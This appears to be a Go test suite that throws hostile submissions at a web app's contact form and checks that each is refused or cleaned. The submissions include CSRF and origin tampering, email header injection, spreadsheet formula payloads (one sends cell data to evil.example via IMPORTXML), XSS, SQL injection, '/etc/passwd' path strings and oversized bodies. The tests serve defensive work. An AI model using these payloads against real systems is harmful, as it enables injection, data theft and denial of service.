package web_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"time"

	"heliograph/app/web/page"
	"heliograph/app/web/webtest"
)

// hostileBots are programs that send forms.
func hostileBots(d *hostileDesk) []hostileCase {
	raw := func(method, contentType, body string) sender {
		return func(b *webtest.Client, _ url.Values) *webtest.Answer {
			return b.Send(method, "/contact-us", contentType, strings.NewReader(body))
		}
	}
	withHeader := func(name, value string) sender {
		return func(b *webtest.Client, f url.Values) *webtest.Answer {
			return b.With(name, value).Post("/contact-us", f)
		}
	}
	const urlencoded = "application/x-www-form-urlencoded"
	cases := []hostileCase{
		{name: "a person", want: "stored"},
		{name: "nothing at all", want: "status 403", send: raw("POST", urlencoded, "")},
		{name: "no token", want: "status 403", send: raw("POST", urlencoded, enquiry().Encode())},
		{name: "a token with other letters", want: "status 403", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			b.Token = "AAAA" + b.Token[4:]
			return b.Post("/contact-us", f)
		}},
		{name: "a form of another site", want: "status 403", send: withHeader("Sec-Fetch-Site", "cross-site")},
		{name: "a frame of the same site", want: "status 403", send: withHeader("Sec-Fetch-Site", "same-site")},
		{name: "the origin of another site", want: "status 403", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			return b.With("Sec-Fetch-Site", "").With("Origin", "https://evil.example").Post("/contact-us", f)
		}},
		{name: "JSON", want: "status 403", send: raw("POST", "application/json", `{"organisation":"X","name":"Bot","email":"bot@example.com","message":"Buy something now","consent":"yes"}`)},
		{name: "JSON with the token", want: "refused: organisation name email message consent", send: func(b *webtest.Client, _ url.Values) *webtest.Answer {
			return b.With("X-CSRF-Token", b.Token).Send("POST", "/contact-us", "application/json", strings.NewReader(`{"organisation":"X","name":"Bot","email":"bot@example.com","message":"Buy something now","consent":"yes"}`))
		}},
		{name: "XML", want: "status 403", send: raw("POST", "application/xml", `<form><name>Bot</name></form>`)},
		{name: "plain text", want: "status 403", send: raw("POST", "text/plain", "name=Bot")},
		{name: "no type of content", want: "status 403", send: raw("POST", "", "name=Bot")},
		{name: "PUT", want: "status 405", send: raw("PUT", urlencoded, "name=Bot")},
		{name: "DELETE", want: "status 405", send: raw("DELETE", urlencoded, "")},
		{name: "fields in the query", want: "refused: organisation name email message consent", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			return b.Post("/contact-us?"+f.Encode(), url.Values{"stamp": f["stamp"]})
		}},
		{name: "multipart with every field", want: "stored", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			contentType, body := multipartForm(b, f, 0)
			return b.Send("POST", "/contact-us", contentType, body)
		}},
		{name: "multipart with a file in a field", want: "stored", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			contentType, body := multipartForm(b, f, 1000)
			return b.Send("POST", "/contact-us", contentType, body)
		}},
		{name: "multipart without a boundary", want: "not a form", send: raw("POST", "multipart/form-data", "--x")},
		{name: "multipart that ends early", want: "not a form", send: raw("POST", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nBot")},
		{name: "as htmx, with everything", want: "stored", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			a := b.HX("form-contact").On("/contact-us").Post("/contact-us", f)
			if a.Status == http.StatusNoContent && a.Address() == "/contact-us/thanks" {
				a.Status = http.StatusSeeOther
			}
			return a
		}},
		{name: "all fields empty", want: "refused: organisation name email message consent", set: set("organisation", "", "name", "", "email", "", "message", "", "consent", "")},
		{name: "trap filled in", want: "asked again", set: set("fax_extension", "12345")},
		{name: "trap of one space", want: "asked again", set: set("fax_extension", " ")},
		{name: "a link in the trap", want: "asked again", set: set("fax_extension", "https://spam.example")},
		{name: "trap filled in again", want: "stored as spam", set: func(f url.Values) {
			f.Set("fax_extension", "12345")
			f.Set("stamp", d.stamp(time.Minute, time.Minute, 0, true))
		}},
		{name: "sent at once", want: "asked again", set: func(f url.Values) { f.Set("stamp", d.stamp(0, 0, 0, false)) }},
		{name: "sent after two seconds", want: "asked again", set: func(f url.Values) { f.Set("stamp", d.stamp(2*time.Second, 2*time.Second, 0, false)) }},
		{name: "sent at once, and again as asked", want: "stored", set: func(f url.Values) { f.Set("stamp", d.stamp(0, 0, 0, true)) }},
		{name: "refused a minute ago, sent at once", want: "stored", set: func(f url.Values) { f.Set("stamp", d.stamp(time.Minute, 0, 0, false)) }},
		{name: "open for 11 hours", want: "stored", set: func(f url.Values) { f.Set("stamp", d.stamp(11*time.Hour, 11*time.Hour, 0, false)) }},
		{name: "consent by another word", want: "stored", set: set("consent", "on")},
		{name: "status chosen by the sender", want: "stored: status=new", set: set("status", "won", "Status", "won")},
		{name: "assignee chosen by the sender", want: "stored", set: set("assignee", "1", "assignee_id", "1")},
		{name: "id chosen by the sender", want: "stored", set: set("id", "00000000-0000-0000-0000-000000000001", "reference", "MINE-0001")},
		{name: "consent text of another version", want: "stored: consent_version=2026-11-22", set: set("consent_version", "1999-01-01")},
	}
	return grouped("bots", cases)
}

func grouped(group string, cases []hostileCase) []hostileCase {
	for i := range cases {
		cases[i].group = group
	}
	return cases
}

// hostileStamps are forms that were not shown, or were sent before.
func hostileStamps(d *hostileDesk) []hostileCase {
	stamped := func(change func(stamp string) string) func(url.Values) {
		return func(f url.Values) { f.Set("stamp", change(f.Get("stamp"))) }
	}
	flip := func(at int) func(string) string {
		return func(s string) string {
			other := byte('A')
			if s[at] == other {
				other = 'B'
			}
			return s[:at] + string(other) + s[at+1:]
		}
	}
	cases := []hostileCase{
		{name: "no stamp", want: "stale", set: stamped(func(string) string { return "" })},
		{name: "a stamp of words", want: "stale", set: stamped(func(string) string { return "stamp" })},
		{name: "a stamp of 60,000 characters", want: "stale", set: stamped(func(string) string { return strings.Repeat("A", 60_000) })},
		{name: "a stamp without its signature", want: "stale", set: stamped(func(s string) string { return strings.Split(s, ".")[0] })},
		{name: "a signature without its stamp", want: "stale", set: stamped(func(s string) string { return "." + strings.Split(s, ".")[1] })},
		{name: "a stamp with another number", want: "stale", set: stamped(flip(3))},
		{name: "a stamp with another time", want: "stale", set: stamped(flip(30))},
		{name: "a stamp that asks for less work", want: "stale", set: stamped(flip(43))},
		{name: "a stamp with another signature", want: "stale", set: stamped(func(s string) string { return flip(len(s) - 5)(s) })},
		{name: "a stamp in other base64", want: "stale", set: stamped(func(s string) string { return strings.Replace(s, ".", "=.", 1) })},
		{name: "a stamp with a line break", want: "stale", set: stamped(func(s string) string { return s[:5] + "\r\n" + s[5:] })},
		{name: "two stamps in one", want: "stale", set: stamped(func(s string) string { return s + s })},
		{name: "a confirmation token as a stamp", want: "stale", set: stamped(func(string) string {
			const id = "0193a1b2-0000-7000-8000-000000000001"
			return id + "." + d.keys.Sign("contact/confirm", id)
		})},
		{name: "a stamp of 13 hours ago", want: "stale", set: func(f url.Values) { f.Set("stamp", d.stamp(13*time.Hour, 13*time.Hour, 0, false)) }},
		{name: "a stamp of last year", want: "stale", set: func(f url.Values) { f.Set("stamp", d.stamp(9000*time.Hour, 9000*time.Hour, 0, true)) }},
		{name: "the same form twice", want: "joined", first: set()},
		{name: "the same words in capitals", want: "joined", first: set("message", "  WHAT does going\r\nlive take?")},
		{name: "the same stamp with other words", want: "stale", first: set("message", "Other words altogether.")},
		{name: "the same stamp of another sender", want: "stale", first: set("email", "other@example.com")},
		{name: "the same stamp of another organisation", want: "stale", first: set("organisation", "Other")},
		{name: "work asked for, no proof", want: "stored as unconfirmed", set: func(f url.Values) { f.Set("stamp", d.stamp(time.Minute, time.Minute, 12, false)) }},
		{name: "work asked for, a proof of words", want: "stored as unconfirmed", set: func(f url.Values) {
			f.Set("stamp", d.stamp(time.Minute, time.Minute, 12, false))
			f.Set("proof", "please")
		}},
		{name: "work asked for, a proof of 60,000 digits", want: "stored as unconfirmed", set: func(f url.Values) {
			f.Set("stamp", d.stamp(time.Minute, time.Minute, 12, false))
			f.Set("proof", strings.Repeat("9", 50_000))
		}},
		{name: "work asked for, the proof of another form", want: "stored as unconfirmed", set: func(f url.Values) {
			f.Set("stamp", d.stamp(time.Minute, time.Minute, 20, false))
			f.Set("proof", "1")
		}},
		{name: "more work than a hash can show", want: "stored as unconfirmed", set: func(f url.Values) { f.Set("stamp", d.stamp(time.Minute, time.Minute, 255, false)) }},
		{name: "a proof that nobody asked for", want: "stored", set: set("proof", "123456")},
	}
	return grouped("replays", cases)
}

// multipartForm encodes a form with its token as multipart, and with a file of
// size bytes if that is not 0.
func multipartForm(b *webtest.Client, f url.Values, size int) (contentType string, body io.Reader) {
	var text bytes.Buffer
	w := multipart.NewWriter(&text)
	write := func(name, value string) {
		if err := w.WriteField(name, value); err != nil {
			panic(err)
		}
	}
	write(page.TokenField, b.Token)
	for name, values := range f {
		for _, value := range values {
			write(name, value)
		}
	}
	if size > 0 {
		file, err := w.CreateFormFile("message", "../../etc/passwd")
		if err == nil {
			_, err = file.Write(bytes.Repeat([]byte("x"), size))
		}
		if err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return w.FormDataContentType(), &text
}

// each returns a case for each value of a field.
func each(group, field, want string, values ...string) (cases []hostileCase) {
	for _, value := range values {
		name := value
		if len(name) > 40 {
			name = name[:40] + fmt.Sprintf("… (%d bytes)", len(value))
		}
		cases = append(cases, hostileCase{group: group, name: fmt.Sprintf("%s %q", field, name), want: want, set: set(field, value)})
	}
	return cases
}

// storedAs returns a case for each pair of a value and how it is stored.
func storedAs(group, field string, pairs ...string) (cases []hostileCase) {
	for i := 0; i < len(pairs); i += 2 {
		cases = append(cases, each(group, field, "stored: "+field+"="+pairs[i+1], pairs[i])...)
	}
	return cases
}

// hostileHeaders try to add headers, recipients or whole messages to emails.
func hostileHeaders() (cases []hostileCase) {
	const group = "header injection"
	cases = append(cases, each(group, "email", "refused: email",
		"mira@example.com\r\nBcc: all@example.com", "mira@example.com\nBcc: all@example.com", "mira@example.com\rBcc: all@example.com",
		"mira@example.com%0aBcc:all@example.com", "mira@example.com, all@example.com", "mira@example.com;all@example.com", "Mira <mira@example.com>",
		"<mira@example.com>", "mira@example.com>\r\nRCPT TO:<all@example.com", "mira@exam ple.com", "mira@example.com\u2028Bcc: a@example.com", "mira@example.com\u0085Bcc: a@example.com",
		"\"mira\\\"@x\"@example.com", "mira(comment)@example.com", "mira@[127.0.0.1]", "mira@localhost", "@example.com", "mira@", "mira@@example.com", "a@b@example.com",
		"mi\u200bra@example.com", "mira@example.com\u202e", "mira@-example.com", "mira@example..com", strings.Repeat("a", 300)+"@example.com", "mira@"+strings.Repeat("a.", 200)+"com")...)
	cases = append(cases, storedAs(group, "organisation",
		"Light\r\nBcc: all@example.com", "Light Bcc: all@example.com", "Light\nhouse", "Light house", "Light\rhouse", "Light house",
		"Light\u2028house", "Light house", "Light\u0085house", "Light house", "Light\r\n\r\n<b>body</b>", "Light <b>body</b>",
		"=?utf-8?q?Bcc:_all=40example.com?=", "=?utf-8?q?Bcc:_all=40example.com?=", "Light\t\tX-Header: y", "Light X-Header: y")...)
	cases = append(cases, storedAs(group, "name", "Mira\r\nSubject: Buy", "Mira Subject: Buy", "Mira\r\n.\r\nQUIT", "Mira . QUIT", "Mira\vSolanki", "Mira Solanki")...)
	cases = append(cases, storedAs(group, "message", "Hello there,\r\n.\r\nMAIL FROM:<x@example.com>", "Hello there,\n.\nMAIL FROM:<x@example.com>",
		"Hello there\r\rBcc: all@example.com", "Hello there\n\nBcc: all@example.com", "Content-Type: text/html\r\n\r\n<b>Hi</b>", "Content-Type: text/html\n\n<b>Hi</b>",
		"Hello \x1b[31mred\x07 there", "Hello [31mred there", "--boundary\r\nContent-Type: text/html", "--boundary\nContent-Type: text/html")...)
	return append(cases, storedAs(group, "page", "/docs\r\nBcc: all@example.com", "", "//evil.example/x", "", "https://evil.example/", "", "javascript:alert(1)", "", "\\\\evil.example", "",
		"/docs/sms?token=secret", "/docs/sms", "/docs/sms#part", "/docs/sms", "docs", "", "/"+strings.Repeat("a", 600), "", "/docs/\"><script>", "/docs/%22%3E%3Cscript%3E")...)
}

// hostileFormulas are words that a spreadsheet, a page or a database would run.
func hostileFormulas() (cases []hostileCase) {
	const group = "formulas and markup"
	for _, text := range []string{
		"=1+1 is what I want to ask", "=cmd|' /C calc'!A0 please", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "\t=HYPERLINK(\"http://evil.example\",\"x\")",
		"=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "%0A-3+3+cmd|' /C notepad'!A1", "=1+1\",\"=2+2", "\u200b=1+1 with something unseen", "＝1+1 in full width", "\u2212 1 + 1 after a minus sign",
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}${7*7}<%= 7*7 %>", "'; drop table contact_enquiries; --", "\\'; select pg_sleep(9); --", "javascript:alert(1)//x",
		"</textarea><script>alert(1)</script>", "<a hx-get=/admin hx-trigger=load>words</a>", "[a](javascript:alert(1)) and ![b](http://evil.example/x.png)", "data:text/html;base64,PHNjcmlwdD4=",
	} {
		cases = append(cases, each(group, "message", "stored", text)...)
	}
	for _, field := range []string{"organisation", "name"} {
		cases = append(cases, each(group, field, "stored", "=HYPERLINK(\"http://evil.example\")", "@mira", "+Mira", "-Mira", "|Mira", "<script>alert(1)</script>", "O'Hara; drop table x")...)
	}
	return append(cases, each(group, "website", "refused: website", "javascript:alert(1)//x.example", "data:text/html,<b>x</b>", "file:///etc/passwd", "https://a:b@example.com", "ftp://example.com",
		"https://example.com:8080", "localhost", "https://127.0.0.1:22/", "=1+1", "https://exa mple.com", "https://example.com/\r\nX: y", "http://", "https://.", "https://example.", "example.com/"+strings.Repeat("a", 400))...)
}

// hostileNames are names that people have, and some that nobody has.
func hostileNames() (cases []hostileCase) {
	const group = "unicode names"
	cases = append(cases, storedAs(group, "name", "Siobhán O’Hara-Müller", "Siobhán O’Hara-Müller", "王小明", "王小明", "கலைச்செல்வி", "கலைச்செல்வி", "प्रकाश\u200dस्तंभ", "प्रकाश\u200dस्तंभ",
		"محمد بن سلمان", "محمد بن سلمان", "\u200fמירה\u200f", "מירה", "Nguyễn Thị Ánh", "Nguyễn Thị Ánh", "Mu\u0308ller", "Müller", "\ufeffMira", "Mira", "Mi\u200bra", "Mira", "Mi\u00adra", "Mira",
		"X Æ A-12", "X Æ A-12", "བསྟན་འཛིན་རྒྱ་མཚོ", "བསྟན་འཛིན་རྒྱ་མཚོ", "\u00a0 Mira \u3000 Solanki \u2003", "Mira Solanki", "Mira \U000e0041\U000e0042", "Mira", "𝓜𝓲𝓻𝓪", "𝓜𝓲𝓻𝓪", "Null", "Null", "undefined", "undefined")...)
	return append(cases, each(group, "name", "refused: name", "", " \t ", "\u200b\u200b", "12345", "🚀🚀", "...", "moc.live\u202egnp.exe", "a\u2066b\u2069", "Mira\x07", "Mira\x1b[2J", "Mi\ue000ra",
		"Z"+strings.Repeat("\u0335\u0489\u0321", 30), "a"+strings.Repeat("\u0301", 150), strings.Repeat("n", 201), strings.Repeat("ன", 201), "\ufffd\ufffd Mira")...)
}

// hostileFields are values that a field cannot hold, next to what people type.
func hostileFields() (cases []hostileCase) {
	const group = "fields"
	cases = append(cases, each(group, "organisation", "refused: organisation", "", " \t", "12345", strings.Repeat("a", 6000))...)
	cases = append(cases, storedAs(group, "organisation", "கலங்கரை விளக்கம்", "கலங்கரை விளக்கம்", "3M", "3M")...)
	cases = append(cases, storedAs(group, "email", "Mira+SMS@Example.COM", "mira+sms@example.com", "mira@bücher.example", "mira@xn--bcher-kva.example")...)
	cases = append(cases, each(group, "phones", "refused: phones", "98123 45678", "+999 123456", "+91 22 2778 2183 ext. 5", "+91 98123 45678\n+91 1", "call me", "+91 98123 45678 drop", "tel:+919812345678;ext=5",
		"+91981234567890123", "1800-FLOWERS", "+९१ ९८१२३ ४५६७८")...)
	cases = append(cases, storedAs(group, "phones", "", "", "+91 98123 45678, 0091 22 2778 2183", "+919812345678 +912227782183", strings.Repeat("+919812345678,", 6), "+919812345678", ",;,\n,", "", "++919812345678", "+919812345678")...)
	cases = append(cases, storedAs(group, "website", "Example.COM/About#team", "https://example.com/About", "bücher.example", "https://xn--bcher-kva.example", "http://example.com/", "http://example.com")...)
	cases = append(cases, each(group, "gst_number", "refused: gst_number", "27AAPFU0939F1ZW", "27AAPFU0938F1ZV", "27AAPFU0939F1Z", "27AAPFUO939F1ZV", "27AAPFU0939F1ZV7", "２７AAPFU0939F1ZV", "=27AAPFU0939F1ZV")...)
	cases = append(cases, storedAs(group, "gst_number", "", "", " 27aapfu 0939-f1zv", "27AAPFU0939F1ZV")...)
	cases = append(cases, each(group, "message", "refused: message", "", "Hi", " \n \n ", "\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11", strings.Repeat("a", 5001))...)
	cases = append(cases, each(group, "message", "stored", strings.Repeat("a", 5000), strings.Repeat("ன", 2400))...)
	return append(cases, each(group, "consent", "refused: consent", "")...)
}

// hostileBombs are too deep, too long or too many.
func hostileBombs() []hostileCase {
	with := func(change func(f url.Values)) sender {
		return func(b *webtest.Client, f url.Values) *webtest.Answer {
			change(f)
			return b.Post("/contact-us", f)
		}
	}
	phones := make([]string, 6)
	for i := range phones {
		phones[i] = fmt.Sprintf("+91981234567%d", i)
	}
	cases := []hostileCase{
		{name: "six phone numbers", want: "refused: phones", set: set("phones", strings.Join(phones, ","))},
		{name: "4,000 phone numbers", want: "refused: phones", set: set("phones", strings.Repeat("+919812345678\n+912227782183\n", 1000)+strings.Join(phones, "\n"))},
		{name: "20,000 commas for phone numbers", want: "stored: phones=", set: set("phones", strings.Repeat(",", 20_000))},
		{name: "a phone number of 30,000 digits", want: "refused: phones", set: set("phones", "+91"+strings.Repeat("9", 30_000))},
		{name: "a message of 60,000 characters", want: "refused: message", set: set("message", strings.Repeat("a", 60_000))},
		{name: "a message of 100,000 characters", want: "status 413", set: set("message", strings.Repeat("a", 100_000))},
		{name: "a body of 10 MB", want: "status 413", set: set("message", strings.Repeat("a", 10<<20))},
		{name: "5,000 fields that the form does not have", want: "stored", send: with(func(f url.Values) {
			for i := range 5000 {
				f.Set(fmt.Sprintf("f%d", i), "x")
			}
		})},
		{name: "100,000 fields", want: "status 413", send: with(func(f url.Values) {
			for i := range 100_000 {
				f.Set(fmt.Sprintf("f%d", i), "x")
			}
		})},
		{name: "one field 3,000 times", want: "stored: organisation=Lighthouse", send: with(func(f url.Values) {
			for range 3000 {
				f.Add("organisation", "Other")
			}
		})},
		{name: "names of fields with a thousand brackets", want: "stored", send: with(func(f url.Values) { f.Set("organisation"+strings.Repeat("[a]", 1000), "x") })},
		{name: "names of fields with dots and __proto__", want: "stored", send: with(func(f url.Values) {
			f.Set("__proto__.admin", "true")
			f.Set("organisation.name", "x")
		})},
		{name: "20,000 brackets of JSON as the message", want: "refused: message", set: set("message", strings.Repeat("[", 20_000))},
		{name: "a compressed body", want: "status 415", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			var packed bytes.Buffer
			w := gzip.NewWriter(&packed)
			fmt.Fprint(w, f.Encode(), strings.Repeat("a", 10<<20))
			w.Close() //nolint:errcheck // to memory
			return b.With("Content-Encoding", "gzip").Send("POST", "/contact-us", "application/x-www-form-urlencoded", &packed)
		}},
		{name: "bytes that are no text", want: "not text", set: set("name", "Mira\xff\xfe")},
		{name: "a NUL", want: "not text", set: set("message", "Hello\x00 there, please answer.")},
		{name: "a NUL in a field that the form does not have", want: "not text", set: set("other", "\x00")},
		{name: "half a surrogate", want: "not text", set: set("name", "Mira\xed\xa0\x80")},
		{name: "overlong UTF-8", want: "not text", set: set("name", "Mira\xc0\xaf")},
		{name: "a broken percent sign", want: "not a form", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			return b.With("X-CSRF-Token", b.Token).Send("POST", "/contact-us", "application/x-www-form-urlencoded", strings.NewReader("name=%zz&email=%"))
		}},
		{name: "semicolons between fields", want: "not a form", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			return b.With("X-CSRF-Token", b.Token).Send("POST", "/contact-us", "application/x-www-form-urlencoded", strings.NewReader(strings.ReplaceAll(f.Encode(), "&", ";")))
		}},
		{name: "500 parts of multipart", want: "stored", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			for i := range 500 {
				f.Set(fmt.Sprintf("f%d", i), "")
			}
			contentType, body := multipartForm(b, f, 0)
			return b.Send("POST", "/contact-us", contentType, body)
		}},
		{name: "a file of 5 MB", want: "status 413", send: func(b *webtest.Client, f url.Values) *webtest.Answer {
			contentType, body := multipartForm(b, f, 5<<20)
			return b.Send("POST", "/contact-us", contentType, body)
		}},
	}
	return grouped("bombs", cases)
}
